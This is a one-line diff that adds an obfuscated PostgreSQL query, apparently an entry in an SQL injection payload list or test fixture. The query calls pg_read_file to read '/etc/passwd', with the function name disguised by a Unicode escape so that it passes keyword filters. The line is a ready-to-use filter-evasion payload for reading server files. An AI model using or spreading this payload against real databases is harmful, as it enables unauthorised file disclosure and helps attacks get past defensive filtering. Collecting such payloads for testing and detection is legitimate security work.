@@ -1,0 +1,1 @@
+SELECT U&"pg_r\0065ad_file"('/etc/passwd')
